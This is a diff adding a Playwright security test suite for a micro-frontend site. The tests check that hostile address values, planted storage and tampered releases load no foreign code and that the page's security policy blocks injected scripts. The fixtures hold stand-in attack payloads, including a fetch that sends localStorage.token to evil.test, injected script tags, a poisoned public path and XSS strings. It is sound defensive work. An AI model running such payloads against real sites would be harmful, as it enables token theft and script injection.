@@ -1,0 +1,300 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from 'playwright-core'
+import { ACCOUNTS } from '../harness/accounts.ts'
+import { openTab, settled, tokenOf, visit } from '../harness/browser.ts'
+import { query } from '../harness/database.ts'
+import { plant } from '../harness/plant.ts'
+import { localRelease } from '../harness/release.ts'
+import { requiring } from '../harness/rerelease.ts'
+import { findShown, screensOf } from '../journey/screens.ts'
+import {
+  clearEvents,
+  deployed,
+  eventually,
+  follow,
+  marked,
+  panel,
+  releaseLine,
+  startPlatform,
+  tabAt,
+  type Platform,
+} from './setup.ts'
+
+/*
+ * Whatever is written into an address, a storage or a release: no byte of code comes from elsewhere.
+ * The site lets anybody pin releases, as staging does; it has more to lose than production.
+ */
+let platform: Platform
+
+beforeAll(async () => {
+  platform = await startPlatform({ PINS: 'on' })
+})
+afterAll(() => platform?.stop())
+beforeEach(async () => {
+  platform.proxy.clear()
+  await clearEvents(platform)
+})
+
+const HOSTILE: [string, string][] = [
+  ['an address', 'mf-jury@https://evil.test/x.js'],
+  ['an address without a scheme', 'mf-jury@//evil.test'],
+  ['a path that climbs', 'mf-jury@..%2f..%2f'],
+  ['a script', 'mf-jury@javascript:alert(1)'],
+  ['a host that looks local', 'mf-jury@localhost.evil.com'],
+  ['a host in the place of the remote', 'https://evil.test/x.js@1.0.0'],
+  ['a version that does not exist', 'mf-jury@9.9.9'],
+  ['half a character', '%E0%A4%A'],
+  ['ten kilobytes', 'x'.repeat(10_000)],
+]
+const MESSAGE = /not a pinned release|is not published|no such part of the site/
+
+const foreign = (requests: readonly string[], ...own: string[]) =>
+  requests.filter((url) => !own.some((one) => url.startsWith(one)) && !/^(data|blob):/.test(url))
+
+async function bootsAlone(page: Page, requests: readonly string[]) {
+  await settled(page)
+  await page.getByRole('heading', { level: 1 }).first().waitFor()
+  expect(foreign(requests, platform.proxy.url)).toEqual([])
+}
+
+test.each(HOSTILE)('scenario 7: %s in the address', async (_what, value) => {
+  const { page, watch, close } = await tabAt(platform, `/winners?mfe=${value}`)
+  await bootsAlone(page, watch.requests)
+  await page.getByText(MESSAGE).first().waitFor()
+  expect(new URL(page.url()).search).toBe('')
+  await close()
+})
+
+test('scenario 7: all of them planted where the site keeps things', async () => {
+  for (const [, value] of HOSTILE) {
+    const { page, watch, context, close } = await tabAt(platform, '/login')
+    await settled(page)
+    const names = ['mfe', 'mfe-pins', 'mfe_pins', 'mfe_uid', 'pins', 'discovery', 'mfe-discovery']
+    await page.evaluate(
+      ([keys, text]) => {
+        const known = [...Object.keys(localStorage), ...Object.keys(sessionStorage)]
+        const kept = known.filter((key) => !['language', 'signed-in-by-test'].includes(key))
+        for (const key of [...(keys as string[]), ...kept]) {
+          localStorage.setItem(key, String(text))
+          sessionStorage.setItem(key, String(text))
+        }
+      },
+      [names, value] as const,
+    )
+    await context.addCookies(
+      names.map((name) => ({
+        name,
+        value: encodeURIComponent(value).slice(0, 3000),
+        url: platform.proxy.url,
+      })),
+    )
+    await page.goto('/winners')
+    await bootsAlone(page, watch.requests)
+    await close()
+  }
+})
+
+test('scenario 7: another origin cannot frame the site with them', async () => {
+  const framer = createServer((request, response) => {
+    const value = decodeURIComponent(request.url?.slice(2) ?? '')
+    const address = `${platform.proxy.url}/home?mfe=${value}`.replaceAll('"', '%22')
+    response.writeHead(200, { 'content-type': 'text/html' })
+    response.end(`<!doctype html><title>Framer</title><iframe src="${address}"></iframe>`)
+  })
+  await new Promise<void>((done) => framer.listen(0, '127.0.0.1', done))
+  const own = `http://127.0.0.1:${(framer.address() as AddressInfo).port}`
+  const context = await visit(platform.browser, { ...platform.site, url: own })
+  for (const value of ['mf-jury@https://evil.test/x.js', 'mf-public@9.9.9']) {
+    const { page, watch } = await openTab(context)
+    await page.goto(`/?${encodeURIComponent(value)}`)
+    await page.waitForLoadState('networkidle')
+    // The browser shows an error in the place of the site, and runs nothing of it.
+    const frame = page.frames()[1]
+    expect(frame?.url()).toMatch(/^chrome-error:/)
+    expect(watch.requests.filter((url) => /\/(assets|mfe|api)\//.test(url))).toEqual([])
+    expect(foreign(watch.requests, own, platform.proxy.url, 'chrome-error:')).toEqual([])
+    await page.close()
+  }
+  await context.close()
+  framer.close()
+})
+
+const reports = () =>
+  query<{ directive: string; blocked: string; remote: string; version: string }>(
+    platform.site,
+    'select directive, blocked, remote, version from mfe_reports',
+  )
+
+test('scenario 8: a release whose files lie elsewhere is refused', async () => {
+  const release = marked('mf-public', '2.0.1', {
+    manifest: ({ metaData }) => void (metaData.publicPath = 'https://evil.test/'),
+  })
+  const { status, body } = await platform.registry.publish(release)
+  expect({ status, body }).toMatchObject({
+    status: 422,
+    body: { problems: [{ gate: 'public_path_not_auto', provided: 'https://evil.test/' }] },
+  })
+})
+
+test('scenario 8: planted behind the registry, it is not loaded', async () => {
+  const good = marked('mf-public', '2.0.0')
+  await deployed(platform, good)
+  const bad = marked('mf-public', '2.0.2', {
+    manifest: ({ metaData }) => void (metaData.publicPath = 'https://evil.test/'),
+    edits: [
+      {
+        file: /^remoteEntry\.js$/,
+        change: (text) => `__webpack_public_path__="https://evil.test/";${text}`,
+      },
+    ],
+  })
+  await plant(platform.site, bad, good)
+  const { page, watch, close } = await tabAt(platform, '/winners')
+  await releaseLine(page, '2.0.0').waitFor()
+  expect(foreign(watch.requests, platform.proxy.url)).toEqual([])
+  await close()
+})
+
+/** A release that fetches code and more from elsewhere, as one with a stolen dependency would. */
+const REACHES_OUT = `
+  const go = (work) => { try { work() } catch {} };
+  go(() => { const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.head.append(s) });
+  go(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.test/x.css'; document.head.append(l) });
+  go(() => { fetch('https://evil.test/secret?' + localStorage.token).catch(() => {}) });
+  go(() => { navigator.sendBeacon('https://evil.test/secret') });
+  go(() => { new Image().src = 'https://evil.test/x.png' });
+  go(() => { globalThis.planted = eval('1') });
+`
+
+test('scenario 8: code of a release reaches nobody else, and the browser tells of it', async () => {
+  await query(platform.site, 'delete from mfe_reports')
+  await deployed(platform, marked('mf-public', '2.0.3', { atImport: REACHES_OUT }))
+  const { page, watch, close } = await tabAt(platform, '/winners', {
+    token: await tokenOf(platform.site, ACCOUNTS[0]),
+  })
+  await releaseLine(page, '2.0.3').waitFor()
+  const sent: string[] = []
+  page.on('requestfinished', (request) => sent.push(request.url()))
+  await page.waitForLoadState('networkidle')
+  expect(foreign(sent, platform.proxy.url)).toEqual([])
+  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
+  expect(watch.violations.length).toBeGreaterThan(0)
+  const told = await eventually(reports, (list) =>
+    list.some(({ remote, blocked }) => remote === 'mf-public' && blocked.includes('evil.test')),
+  )
+  expect(told).toContainEqual(
+    expect.objectContaining({ directive: 'connect-src', remote: 'mf-public', version: '2.0.3' }),
+  )
+  await close()
+})
+
+test('scenario 10: a release that needs another React is refused, with both sides named', async () => {
+  const release = marked('mf-entrant', '2.0.1', requiring('react', '^20.0.0'))
+  const { status, body } = await platform.registry.publish(release)
+  expect({ status, body }).toMatchObject({
+    status: 422,
+    body: {
+      problems: [
+        {
+          gate: 'shared_unsatisfied',
+          subject: 'react',
+          wanted: '^20.0.0',
+          provided: expect.stringMatching(/^19\./),
+        },
+      ],
+    },
+  })
+})
+
+test('scenario 10: forced in, it fails alone', async () => {
+  const token = await tokenOf(platform.site, ACCOUNTS[0])
+  const bad = marked('mf-entrant', '2.0.2', requiring('react', '^20.0.0'))
+  await deployed(platform, marked('mf-public', '2.0.4'))
+  await plant(platform.site, bad, localRelease('mf-entrant'))
+  // Without a version before.
+  const alone = [{ version: bad.version, traffic: 100, default: true }]
+  await query(
+    platform.site,
+    "update mfe_deployments set versions = $1 where channel = 'production' and name = 'mf-entrant'",
+    [JSON.stringify(alone)],
+  )
+  await new Promise((next) => setTimeout(next, 1200))
+  const { page, close } = await tabAt(platform, '/account', { token })
+  await panel(page).waitFor()
+  await follow(page, '/faq')
+  await releaseLine(page, '2.0.4').waitFor()
+  // Hooks of the other remote: the search of this page keeps what is typed in the address.
+  await page.getByRole('searchbox').fill('fee')
+  await page.waitForURL('**/faq?q=fee')
+  const copies = await page.evaluate(
+    () => new Set(Object.values(window.__awards?.runtimes ?? {}).map(({ React }) => React)).size,
+  )
+  expect(copies).toBe(1)
+  await deployed(platform, marked('mf-entrant', '2.0.3'))
+  await close()
+})
+
+test('scenario 18: a strict policy on every page, and nothing that breaks it', async () => {
+  await query(platform.site, 'delete from mfe_reports')
+  const screens = screensOf(await findShown(platform.site))
+  const tokens = new Map<string, string>()
+  for (const who of new Set(screens.map((screen) => screen.who ?? ''))) {
+    if (who) tokens.set(who, await tokenOf(platform.site, who))
+    const context = await visit(platform.browser, platform.site, tokens.get(who))
+    const { page, watch } = await openTab(context)
+    for (const { address } of screens.filter((screen) => (screen.who ?? '') === who)) {
+      const answer = await page.goto(address)
+      await settled(page)
+      const headers = answer?.headers() ?? {}
+      const policy = headers['content-security-policy'] ?? ''
+      expect({ address, policy }).toEqual({
+        address,
+        policy: expect.stringMatching(/script-src 'self'(;|$)/),
+      })
+      expect(policy).not.toContain('unsafe-')
+      expect(policy).toContain("require-trusted-types-for 'script'")
+      expect(policy).toContain("frame-ancestors 'none'")
+      expect(policy).toContain('report-uri /api/platform/reports')
+      expect(headers['x-content-type-options']).toBe('nosniff')
+      expect({ address, violations: watch.violations }).toEqual({ address, violations: [] })
+    }
+    await context.close()
+  }
+  expect(await reports()).toEqual([])
+})
+
+test('scenario 18: planted HTML and scripts are refused by the page itself', async () => {
+  const { page, close } = await tabAt(platform, '/winners')
+  await settled(page)
+  const refused = await page.evaluate(() => {
+    const attempts: Record<string, () => unknown> = {
+      html: () => (document.body.innerHTML += '<img src=x onerror="window.planted=1">'),
+      range: () => document.createRange().createContextualFragment('<svg onload=planted=1>'),
+      script: () => (document.createElement('script').src = 'https://evil.test/x.js'),
+      api: () => (document.createElement('script').src = '/api/index/winnerList'),
+      text: () => (document.createElement('script').textContent = 'window.planted=1'),
+      eval: () => globalThis['eval']('window.planted=1'),
+      timer: () => setTimeout('window.planted=1'),
+      policy: () =>
+        (
+          window as unknown as {
+            trustedTypes: { createPolicy(name: string, rules: object): unknown }
+          }
+        ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
+    }
+    return Object.entries(attempts).map(([name, attempt]) => {
+      try {
+        attempt()
+        return `${name}: done`
+      } catch (error) {
+        return `${name}: ${(error as Error).name}`
+      }
+    })
+  })
+  expect(refused.filter((one) => one.endsWith('done'))).toEqual([])
+  await page.waitForTimeout(200)
+  expect(await page.evaluate(() => 'planted' in window)).toBe(false)
+  await page.getByRole('heading', { level: 1 }).first().waitFor()
+  await close()
+})
